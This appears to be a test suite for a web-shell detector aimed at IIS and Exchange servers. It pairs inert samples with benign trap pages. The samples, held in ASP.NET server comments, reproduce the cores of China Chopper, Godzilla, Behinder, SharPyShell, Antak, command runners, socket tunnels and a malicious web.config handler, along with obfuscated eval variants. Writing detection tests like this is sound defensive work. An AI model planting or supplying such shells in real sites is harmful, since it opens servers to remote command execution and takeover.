// The web-shell families and the behaviour score, each with positive samples written from the public
// descriptions of the family and false-positive traps shaped like ordinary application pages. Every
// sample is inert: the code sits inside an ASP.NET server comment (`<%-- --%>`), which IIS never runs.
import assert from "node:assert/strict";
import { test } from "node:test";
import { draftsOf, type FindingDraft, type SweptFile } from "../../src/detections/types.js";
import { judged, webshellContent } from "../../src/detections/webshells/content.js";
import { ctx } from "../helpers.js";
import { ASPNET_CLIENT, OWA_AUTH, swept } from "../sweep-helpers.js";

const ELSEWHERE = "D:\\Sites\\shop\\"; // outside every Exchange and IIS folder the sweep knows

function run(f: SweptFile): FindingDraft[] {
  const c = ctx(f.path);
  if (!webshellContent.select(f, c)) return [];
  return draftsOf(webshellContent.match(f, c));
}
const checksOf = (f: SweptFile) => run(f).map((d) => d.check);

/** An inert page: a directive, then the family's code in a server comment. */
function inert(code: string, lang = "C#", directive = "Page"): string {
  return `<%@ ${directive} Language="${lang}" %>\n<%--\n${code}\n--%>\n`;
}
const at = (name: string, body: string, dir = ELSEWHERE) => swept(`${dir}${name}`, body);

test("China Chopper: the one-liner in .aspx, .ashx, .asmx and .config, outside the Exchange folders", () => {
  const one = 'eval(Request.Item["k"],"unsafe");';
  for (const name of ["a.aspx", "b.ashx", "c.asmx", "d.config"]) {
    const d = run(at(name, inert(one, "JScript")));
    // A .config with inline code is also the web.config shell.
    assert.deepEqual(
      d.map((x) => x.check),
      name.endsWith(".config") ? ["webshell-chopper", "webshell-web-config"] : ["webshell-chopper"],
      name,
    );
    assert.equal(d[0].evidence.Rule, "chopper-eval-unsafe");
    assert.equal(d[0].line, 3, "the line of the eval");
    assert.equal(d[0].evidence.Line, "3");
    assert.equal(d[0].evidence.Confidence, "high");
  }
});

test('China Chopper: "unsafe" split, escaped, char-coded, entity-encoded, reversed; Base64 of the whole call', () => {
  const forms = [
    'eval(Request.Item["k"],"un"+"safe");',
    'eval(Request.Item["k"], "u" + "ns" + "afe");',
    'eval(Request.Item["k"],"\\u0075\\u006esafe");',
    'eval(Request.Item["k"],"\\x75\\x6e\\x73afe");',
    'eval(Request.Item["k"],String.fromCharCode(117,110,115,97,102,101));',
    'eval(Request.Item["k"],"&#117;&#x6e;safe");',
    'eval(Request.Item["k"],"efasnu".split("").reverse().join(""));',
    '\\u0065val(Request.Item["k"],"unsafe");',
  ];
  for (const f of forms) {
    const d = run(at("x.aspx", inert(f, "JScript")));
    assert.deepEqual(
      d.map((x) => x.check),
      ["webshell-chopper"],
      f,
    );
    assert.ok(d[0].evidence.Decoded, `the normalised line is shown for ${f}`);
  }
  const b64 = Buffer.from('eval(Request.Item["k"],"unsafe")').toString("base64");
  const d = run(
    at("y.aspx", inert(`var c = "${b64}";\nvar x = System.Convert.FromBase64String(c);`, "JScript")),
  );
  assert.deepEqual(
    d.map((x) => x.check),
    ["webshell-chopper"],
  );
  assert.equal(d[0].line, 3, "the line of the Base64 literal");
  assert.match(d[0].evidence.Decoded, /^base64: eval\(request\.item/);
});

test("China Chopper: FromBase64String variant, HAFNIUM JScript Page_Load, C# writers", () => {
  const b64 =
    'eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["z"])));';
  assert.deepEqual(checksOf(at("b.aspx", inert(b64, "JScript"))), ["webshell-chopper"]);
  const hafnium =
    '<%--\n<script language="JScript" runat="server">\nfunction Page_Load(){\neval(Request["exec_code"],"unsafe");\n}\n</script>\n--%>\n';
  const d = run(at("h.aspx", hafnium));
  assert.deepEqual(
    d.map((x) => x.check),
    ["webshell-chopper"],
  );
  const writer =
    'System.IO.StreamWriter w = new System.IO.StreamWriter(Request.Form["f"]); w.Write(Request.Form["c"]);';
  assert.deepEqual(checksOf(at("w.aspx", inert(writer))), ["webshell-chopper"]);
  const upload =
    'if (Request.Files.Count != 0) { Request.Files[0].SaveAs(Server.MapPath("./") + Request.Files[0].FileName); }';
  assert.deepEqual(checksOf(at("u.aspx", inert(upload))), ["webshell-chopper"]);
});

test("Godzilla and Behinder: decrypted Assembly.Load of posted bytes, session-held payloads", () => {
  const godzilla = [
    'string key = "0123456789abcdef"; string pass = "pass";',
    'string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", "");',
    "byte[] data = System.Convert.FromBase64String(Context.Request[pass]);",
    "data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);",
    'if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }',
  ].join("\n");
  const g = run(at("g.aspx", inert(godzilla)));
  assert.deepEqual(
    g.map((x) => x.check),
    ["webshell-godzilla"],
  );
  assert.equal(g[0].evidence.Rule, "godzilla-session-payload");
  assert.equal(g[0].line, 7);
  const behinder = [
    'Session.Add("k", "e45e329feb5d925b");',
    'byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);',
    'Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);',
  ].join("\n");
  assert.deepEqual(checksOf(at("b.aspx", inert(behinder))), ["webshell-behinder"]);
  // A loader with no family name (AntSword-style agent): Base64 of a posted field into Assembly.Load.
  const loader =
    'System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["a"])).CreateInstance("Run");';
  assert.deepEqual(checksOf(at("l.ashx", inert(loader, "C#", "WebHandler"))), ["webshell-memory-loader"]);
});

test("SharPyShell, Antak, cmd.aspx-style runners", () => {
  const sharpy = [
    'string p = "password"; string r = Request.Form["data"];',
    "byte[] a = System.Convert.FromBase64String(r);",
    "for (int i = 0; i < a.Length; i++) a[i] ^= (byte)p[i % p.Length];",
    'System.Reflection.Assembly aS = System.Reflection.Assembly.Load(a); object o = aS.CreateInstance("SharPy");',
    'object oU = o.GetType().GetMethod("Run").Invoke(o, new object[] { r, p });',
  ].join("\n");
  assert.deepEqual(checksOf(at("s.aspx", inert(sharpy))), ["webshell-sharpyshell"]);
  const antak = [
    "using System.Management.Automation; using System.Management.Automation.Runspaces;",
    "Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open();",
    "Pipeline pl = rs.CreatePipeline(); pl.Commands.AddScript(console.Text);",
    '<asp:TextBox ID="console" runat="server" TextMode="MultiLine" />',
  ].join("\n");
  assert.deepEqual(checksOf(at("antak.aspx", inert(antak))), ["webshell-antak"]);
  const runner = [
    '<asp:TextBox id="txtArg" runat="server" />',
    "ProcessStartInfo psi = new ProcessStartInfo();",
    'psi.FileName = "cmd.exe";',
    'psi.Arguments = "/c " + txtArg.Text;',
    "psi.RedirectStandardOutput = true; Process p = Process.Start(psi);",
  ].join("\n");
  const d = run(at("cmd.aspx", inert(runner)));
  assert.deepEqual(
    d.map((x) => x.check),
    ["webshell-cmd-runner"],
  );
  assert.equal(d[0].line, 6, "the line where the control's text reaches the process");
  const vb = 'Dim c As String = Request.QueryString("c")\nProcess.Start("cmd.exe", "/c " & c)';
  assert.deepEqual(checksOf(at("v.aspx", inert(vb, "VB"))), ["webshell-cmd-runner"]);
});

test("reGeorg, Neo-reGeorg-style and Tunna-style tunnels", () => {
  const regeorg = [
    "using System.Net.Sockets;",
    'String cmd = Request.Headers.Get("X-CMD");',
    'if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); }',
  ].join("\n");
  assert.deepEqual(checksOf(at("tunnel.ashx", inert(regeorg))), ["webshell-socket-tunnel"]);
  const neo = [
    "System.Net.Sockets.Socket sock = new System.Net.Sockets.Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);",
    'Session["s1"] = sock;',
  ].join("\n");
  assert.deepEqual(checksOf(at("n.aspx", inert(neo))), ["webshell-socket-tunnel"]);
  const tunna = [
    "using System.Net.Sockets;",
    'string host = Request.QueryString["ip"]; int port = int.Parse(Request.QueryString["port"]);',
    "TcpClient c = new TcpClient(); c.Connect(host, port);",
  ].join("\n");
  assert.deepEqual(checksOf(at("conn.aspx", inert(tunna))), ["webshell-socket-tunnel"]);
});

test("ASPXSpy and file managers; classic ASP eval/execute; web.config with inline code", () => {
  assert.deepEqual(checksOf(at("spy.aspx", inert("public void Bin_List(string path) { }"))), [
    "webshell-file-manager",
  ]);
  const manager = [
    'string dir = Request.QueryString["d"];',
    "foreach (var f in Directory.GetFiles(dir)) { }",
    'if (Request["del"] != null) File.Delete(Request["del"]);',
    'Request.Files[0].SaveAs(Path.Combine(dir, "x"));',
    'SqlCommand q = new SqlCommand(Request.Form["sql"], conn);',
  ].join("\n");
  assert.deepEqual(checksOf(at("fm.aspx", inert(manager))), ["webshell-file-manager"]);
  for (const asp of [
    'eval request("x")',
    'execute request("x")',
    'ExecuteGlobal(Request.Form("x"))',
    'c = Request("c")\nExecute(c)',
    'Execute(StrReverse(")""c""(tseuqer lave"))',
  ]) {
    const f = at("x.asp", `<%@ Language="VBScript" %>\n<%-- ${asp} --%>\n`);
    assert.deepEqual(checksOf(f), ["webshell-asp-eval"], asp);
  }
  const config = [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<configuration><system.webServer><handlers accessPolicy="Read, Script, Write">',
    '<add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" />',
    "</handlers></system.webServer></configuration>",
    '<!-- <%-- Response.Write(CreateObject("WScript.Shell").Exec(Request("c")).StdOut.ReadAll()) --%> -->',
  ].join("\n");
  const d = run(at("web.config", config));
  assert.deepEqual(
    d.map((x) => x.check),
    ["webshell-web-config"],
  );
  assert.equal(d[0].line, 3);
});

test("Behaviour score: unnamed shells by flow; structure cues; every signal has rule and line", () => {
  // Reflection driven by request data in a tiny page: no family, but a strong score.
  const refl =
    'Type t = Type.GetType(Request["t"]); t.GetMethod(Request["m"]).Invoke(null, new object[] { Request["a"] });';
  const d = run(at("r.aspx", inert(refl)));
  assert.equal(d.length, 1);
  assert.ok(["webshell-behaviour", "webshell-suspicious-code"].includes(d[0].check));
  assert.match(d[0].evidence.Signals, /flow-invoke line 3/);
  // An embedded executable (Base64 MZ) next to a process start.
  const pe = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(40, 0x90)]).toString("base64");
  const e = run(
    at(
      "e.aspx",
      inert(
        `byte[] b = Convert.FromBase64String("${pe}"); File.WriteAllBytes(Request["p"], b); Process.Start(Request["p"]);`,
      ),
    ),
  );
  assert.deepEqual(
    e.map((x) => x.check),
    ["webshell-cmd-runner"],
  );
  assert.match(e[0].evidence.Signals, /embedded-executable/);
});

/** Shaped like ordinary application pages: the traps. */
const BENIGN: [string, string][] = [
  [
    "upload.aspx",
    '<%@ Page Language="C#" %>\n<html><body><form runat="server"><asp:FileUpload id="up" runat="server"/></form>\n<script runat="server">\nvoid Save(object s, EventArgs e) { if (up.HasFile) up.SaveAs(Server.MapPath("~/uploads/") + System.IO.Path.GetFileName(up.FileName)); }\n</script></body></html>',
  ],
  [
    "list.aspx",
    '<%@ Page Language="C#" %>\n<html><body><asp:Repeater runat="server"><ItemTemplate><%# Eval("Title") %> <%# Eval("Date", "{0:d}") %></ItemTemplate></asp:Repeater></body></html>',
  ],
  [
    "item.aspx",
    '<%@ Page Language="C#" %>\n<html><body><% var cmd = new SqlCommand("select * from t where id=@id", conn); cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]); cmd.ExecuteReader(); %></body></html>',
  ],
  [
    "plugins.ashx",
    '<%@ WebHandler Language="C#" Class="P" %>\npublic class P : IHttpHandler { public void ProcessRequest(HttpContext c) { var a = System.Reflection.Assembly.Load("Shop.Plugins"); c.Response.Write(a.FullName); } }',
  ],
  [
    "download.ashx",
    '<%@ WebHandler Language="C#" Class="D" %>\npublic class D : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.TransmitFile(c.Server.MapPath("~/files/" + System.IO.Path.GetFileName(c.Request["f"]))); } }',
  ],
  [
    "report.aspx",
    '<%@ Page Language="C#" %>\n<html><body><% System.Diagnostics.Process.Start("C:\\\\tools\\\\report.exe", "/daily"); %>done</body></html>',
  ],
  [
    "web.config",
    '<?xml version="1.0"?>\n<configuration><system.webServer><handlers><add name="x" path="*.axd" verb="*" type="System.Web.Handlers.ScriptResourceHandler" /></handlers></system.webServer></configuration>',
  ],
  [
    "default.aspx",
    '<%@ Page Language="C#" %>\n<html><head><script>function go(){ var r = new XMLHttpRequest(); r.onload = function(){ eval(r.responseText); }; }</script></head><body><p>Process.Start and Assembly.Load in text</p></body></html>',
  ],
  [
    "lang.aspx",
    '<%@ Page Language="VB" %>\n<html><body><% Dim s As String = Request.QueryString("lang")\nIf s = "slave" Then Response.Write(Server.HtmlEncode(s)) %></body></html>',
  ],
];

test("Traps: ordinary upload, data-binding Eval, parametrised SQL, plug-in load, downloads, fixed process, config, client eval", () => {
  for (const [name, body] of BENIGN) assert.deepEqual(checksOf(at(name, body)), [], name);
  // Exchange-shaped logon page in owa\auth, and a client-side bundle.
  const logon =
    '<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n<!DOCTYPE html><html><script>var o=eval(xmlHttpRequest.responseText);</script><% if (Request.QueryString["reason"] == "2") { %><div>expired</div><% } %></html>';
  assert.deepEqual(checksOf(swept(`${OWA_AUTH}logon.aspx`, logon)), []);
  const js = 'var a=function(e){return eval("("+e+")")},b=new XMLHttpRequest;b.send(Request);';
  assert.deepEqual(checksOf(swept(`${OWA_AUTH}scripts\\app.min.js`, js)), []);
  // The marker text of an article, in a page with no server code.
  assert.deepEqual(
    checksOf(swept(`${ASPNET_CLIENT}about.aspx`, '<html><pre>eval(Request.Item["x"],"unsafe")</pre></html>')),
    [],
  );
});

test("Scope: script extensions anywhere on the disk; other files only in web folders or --files roots", () => {
  const one = inert('eval(Request.Item["k"],"unsafe");', "JScript");
  assert.equal(judged(swept("C:\\Users\\admin\\AppData\\Local\\Temp\\x.aspx", one)), true);
  assert.equal(judged(swept("C:\\Users\\admin\\AppData\\Local\\Temp\\x.txt", one)), false);
  assert.equal(judged(swept(`${ASPNET_CLIENT}x.txt`, one)), true);
  assert.equal(judged({ ...swept("C:\\x\\notes.txt", one), extraRoot: true }), true);
  const d = run(swept("C:\\Users\\admin\\AppData\\Local\\Temp\\x.aspx", one));
  assert.equal(d[0].evidence.Placement, "temp-or-data");
  const owa = run(swept(`${OWA_AUTH}x.aspx`, one));
  assert.equal(owa[0].evidence.Placement, "exchange-web");
});
